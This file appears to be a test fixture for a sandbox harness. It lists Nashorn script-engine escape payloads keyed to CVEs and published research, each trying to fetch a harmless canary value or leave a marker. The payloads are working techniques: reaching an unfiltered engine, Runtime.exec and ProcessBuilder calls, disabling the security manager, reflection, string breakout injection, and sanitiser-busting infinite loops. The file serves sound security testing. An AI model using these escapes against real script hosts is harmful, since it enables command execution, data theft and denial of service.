// Family "cve": the published breaks of Nashorn hosts, replayed as ideas and not as copies.
// Each entry names the advisory whose hole it walks through; the goal is always to bring the canary home.

//## cve-2018-3183-engine-property | CVE-2018-3183: the script's own engine is a property of its global, its factory builds an engine without any filter | stock
var free = this.engine.factory.scriptEngine;
free.eval("java.lang.System.getProperty('iota.canary')")

//## cve-2018-3183-getter-spelling | CVE-2018-3183: same walk by explicit getters, for hosts that hide only the bean names | stock
var f = this['eng' + 'ine']['getFactory']();
f['getScriptEngine']().eval("java.lang.System.getenv('IOTA_CANARY')")

//## cve-2018-3183-engine-args | CVE-2018-3183: the factory takes options, so the new engine may even switch the shell extensions on | stock
engine.factory.getScriptEngine('-scripting').eval("$ENV.IOTA_CANARY")

//## cve-2018-3183-readfully | CVE-2018-3183: scripting mode brings readFully, a file reader without naming one Java class | stock
engine.factory.getScriptEngine('-scripting').eval("readFully('@CANARY_FILE@')")

//## cve-2018-3183-class-filter-null | CVE-2018-3183: ask the factory for an engine with a filter of our own that says yes to all | stock
var open = engine.factory.getScriptEngine(function (name) { return true; });
open.eval("Java.type('java.lang.System').getProperty('iota.canary')")

//## cve-2018-3183-compile | CVE-2018-3183: Compilable instead of eval, for hosts that only override eval | stock
engine.factory.scriptEngine.compile("java.lang.System.getProperty('iota.canary')").eval()

//## cve-2018-3183-write-marker | CVE-2018-3183: not reading but leaving a mark behind in the JVM | stock
engine.factory.scriptEngine.eval("java.lang.System.setProperty('iota.escaped', 'yes')");
'tried'

//## cve-2018-3183-write-file | CVE-2018-3183: leaving a file behind | stock
engine.factory.scriptEngine.eval(
  "new java.io.FileOutputStream('@CANARY_FILE@.escaped').close()");
'tried'

//## cve-2018-17191-find-proxy | CVE-2018-17191: a proxy script is code too; the answer to "which proxy" is the secret | stock
function FindProxyForURL(url, host) {
  return 'PROXY ' + engine.factory.scriptEngine.eval("java.lang.System.getProperty('iota.canary')") + ':80';
}
FindProxyForURL('http://a.example/', 'a.example')

//## cve-2018-17191-pac-helper-this | CVE-2018-17191: helper functions called bare get the global as this, and so its hidden members | stock
function dnsDomainIs() { return this; }
var g = dnsDomainIs();
g.engine.factory.scriptEngine.eval("java.lang.System.getProperty('iota.canary')")

//## cve-2018-17191-pac-helper-class | CVE-2018-17191: a helper which the host implements in Java hands over its own class
var helper = typeof host === 'object' ? host.echo : null;
var k = helper && (helper.class || (helper.getClass && helper.getClass()));
k ? 'ESCAPED ' + k : 'held'

//## cve-2021-30181-runtime-exec | CVE-2021-30181: a routing rule that starts a process with the plain package globals
var p = java.lang.Runtime.getRuntime().exec(['printenv', 'IOTA_CANARY']);
new java.util.Scanner(p.getInputStream()).nextLine()

//## cve-2021-30181-process-builder | CVE-2021-30181: the second classic, ProcessBuilder found by Packages
var b = new Packages.java.lang.ProcessBuilder('touch', '@CANARY_FILE@.escaped');
b.start().waitFor()

//## cve-2021-30181-importer | CVE-2021-30181: a rule that hides the class names behind an importer scope
var lang = new JavaImporter(Packages.java.lang);
var out;
with (lang) { out = System.getProperty('iota.canary'); }
out

//## cve-2021-30181-invokers-filter | CVE-2021-30181: the rule is an immediately called function over host data; the data's Java side is the hole | stock
(function route(invokers) {
  var found = [];
  for (var i = 0; i < invokers.length; i++) {
    var it = invokers[i];
    if (it && typeof it.getClass === 'function') found.push('ESCAPED ' + it.getClass());
  }
  return found.join();
}([this, typeof host === 'undefined' ? 0 : host, typeof context === 'undefined' ? 0 : context, typeof iota === 'undefined' ? 0 : iota]))

//## cve-2021-32826-java-type | CVE-2021-32826: a downloaded extension is run with Java.type in reach
var System = Java.type('java.lang.System');
System.getProperty('iota.canary')

//## cve-2021-32826-nashorn-in-nashorn | CVE-2021-32826: build another manager and engine from inside
new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval("java.lang.System.getProperty('iota.canary')")

//## cve-2021-32826-extend | CVE-2021-32826: implement a Java interface from JavaScript and let a thread run it
var R = Java.extend(Java.type('java.lang.Runnable'), { run: function () { java.lang.System.setProperty('iota.escaped', '1'); } });
var t = new java.lang.Thread(new R());
t.start(); t.join();
'tried'

//## cve-2021-40660-unclosed-comment-run | CVE-2021-40660: the source itself blows up a sanitiser's regular expression (many comment openers, none closed on its line) | stock
var s = '/*'; /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /* /*
 * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * * *
 ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** ** */
for (;;) { /* while(true){ */ }

//## cve-2021-40660-quote-confusion | CVE-2021-40660: a sanitiser that strips comments by pattern takes this string for a comment and loses the loop behind it | stock
var a = "/*"; for (;;) { a = "//"; } var b = "*/";

//## cve-2021-40660-regex-looks-like-comment | CVE-2021-40660: a regular expression literal that a text sanitiser reads as the start of a comment | stock
var r = /[/*]/; while (r.test('/')) { r = /[/*]/; } // */

//## cve-2021-40660-brace-in-template | CVE-2021-40660: a template literal full of braces unbalances an injector that counts them | stock
let n = 0; while (true) { n = `}}}${'{'}`.length; }

//## cve-2021-40660-loop-without-braces | CVE-2021-40660: body-less and brace-less loops, in which a text injector finds nowhere to put its check | stock
var i = 0; do i++; while (i > 0 || i < 1)

//## cve-2021-40660-while-then-newline | CVE-2021-40660: keyword, comment and parenthesis on different lines | stock
while
/* ) { */
(
// ( {
true
)
;

//## cve-2021-44521-security-manager | CVE-2021-44521: the user function switches the JVM's guard off and goes on freely
var S = java.lang.System;
S.setSecurityManager(null);
S.getProperty('iota.canary')

//## cve-2021-44521-engine-from-udf | CVE-2021-44521: a user-defined function is only an expression over its arguments, but this reaches the engine | stock
(function udf(row) { return row + this.engine.factory.scriptEngine.eval("java.lang.System.getProperty('iota.canary')"); })('')

//## cve-2021-44521-privileged | CVE-2021-44521: run with the host's rights by wrapping a function as a privileged action | stock
engine.factory.scriptEngine.eval(
  "java.security.AccessController.doPrivileged(new java.security.PrivilegedAction(function () {" +
  " return java.lang.System.getProperty('iota.canary'); }))") | 0;
engine.factory.scriptEngine.eval("java.lang.System.getProperty('iota.canary')")

//## cve-2024-29831-condition-breakout | CVE-2024-29831: a switch condition that is glued into a script; the value ends the expression and goes on
var condition = "1 == 1'); java.lang.System.getProperty('iota.canary'); ('";
var glued = "('" + condition + "')";
eval(glued)

//## cve-2024-29831-engine-eval-glue | CVE-2024-29831: the same, where the glued text is given to the engine from inside | stock
engine.eval("var a = '" + "'; this.engine.factory.scriptEngine.eval(\"java.lang.System.getProperty('iota.canary')\"); '" + "'");
engine.eval("this.engine.factory.scriptEngine.eval(\"java.lang.System.getProperty('iota.canary')\")")

//## cve-2024-29831-load-text | CVE-2024-29831: load with inline text compiles outside of whatever checked the first text | stock
load({ name: 'condition', script: "this.engine.factory.scriptEngine.eval(\"java.lang.System.getProperty('iota.canary')\")" })

//## cve-2025-26074-inline-task | CVE-2025-26074: an inline task function returns what the unrestricted engine tells it | stock
(function () {
  var self = this;
  function task() {
    return { result: self.engine.factory.scriptEngine.eval("java.lang.System.getProperty('iota.canary')") };
  }
  return task().result;
}())

//## cve-2025-26074-no-java-bypass | CVE-2025-26074: --no-java removed the packages from this engine only, not from the next one | stock
var seen = typeof java === 'undefined' ? 'no java here; ' : 'java here; ';
seen + engine.factory.scriptEngine.eval("typeof java + ' ' + java.lang.System.getProperty('iota.canary')")

//## cve-2025-26074-bindings-wander | CVE-2025-26074: the task input arrives as bindings; bindings lead to a context and to its engine | stock
var b = context.getBindings(100);
b.engine.factory.scriptEngine.eval("java.lang.System.getProperty('iota.canary')")

//## cve-2025-26074-lambda-task | CVE-2025-26074: a graph of tasks, each evaluated by the text of its function | stock
var task = function () { return this.engine.factory.scriptEngine; };
var text = '(' + task + ').call(this)';
engine.eval(text).eval("java.lang.System.getProperty('iota.canary')")

//## cve-2025-30761-put-and-get | CVE-2025-30761: Scripting's bindings let a script swap what the engine finds under its own names | stock
engine.put('stash', engine.factory.scriptEngine);
stash.eval("java.lang.System.getProperty('iota.canary')")

//## cve-2025-30761-invoke-function | CVE-2025-30761: Invocable calls the realm's own eval by name, past a wrapper around eval | stock
engine.invokeFunction('eval', "this.engine.factory.scriptEngine.eval(\"java.lang.System.getProperty('iota.canary')\")")

//## cve-2025-30761-new-bindings | CVE-2025-30761: createBindings is a fresh global that no lock-down has touched | stock
var fresh = engine.createBindings();
fresh.eval("this") ? 'ESCAPED ' + typeof fresh.eval('load') : 'held'

//## cve-2025-30761-script-context | CVE-2025-30761: a context of our own with the engine's eval that takes one | stock
var ctx = engine.context;
ctx.setAttribute('loot', engine.factory.scriptEngine, 100);
engine.eval("loot.eval(\"java.lang.System.getProperty('iota.canary')\")", ctx)

//## bechler-delete-then-read | Beware the Nashorn: a shadowing global is deleted, the engine's own hook answers again | stock
delete this.engine;
this.engine.factory.scriptEngine.eval("java.lang.System.getProperty('iota.canary')")

//## bechler-missing-property-hook | Beware the Nashorn: the hook that resolves unknown names is itself a function one may call | stock
this.__noSuchProperty__('engine').factory.scriptEngine.eval("java.lang.System.getProperty('iota.canary')")

//## bechler-delete-hook-and-ask-proto | Beware the Nashorn: when the hook is deleted from the global, ask each object on its prototype chain
var found = 'held';
for (var o = Object.getPrototypeOf(this); o; o = Object.getPrototypeOf(o)) {
  if (o.engine) found = 'ESCAPED ' + o.engine;
  if (typeof o.__noSuchProperty__ === 'function' && o.__noSuchProperty__('engine')) found = 'ESCAPED ' + o.__noSuchProperty__('engine');
}
found

//## bechler-context-attribute | Beware the Nashorn: the script context is the other hidden name, its writer is a Java object | stock
var w = context.getWriter();
'ESCAPED ' + w.getClass()

//## bechler-bind-properties | Beware the Nashorn: copy a Java object's members onto a plain one to get round a filter on the original | stock
var copy = Object.bindProperties({}, this.engine || {});
copy.factory.scriptEngine.eval("java.lang.System.getProperty('iota.canary')")

//## bechler-reflection-through-class | Beware the Nashorn: from any Java value to its class, from the class to forName
var c = 'seed'.class;
c.forName('java.lang.System').getMethod('getProperty', c).invoke(null, 'iota.canary')

//## bechler-loader | Beware the Nashorn: class loaders find what a class filter hides
var l = this.engine.class.classLoader;
l.loadClass('java.lang.System').getMethods()[0]

//## bechler-static-side | Beware the Nashorn: the static side of a class object
engine.factory.class.static.getProperty
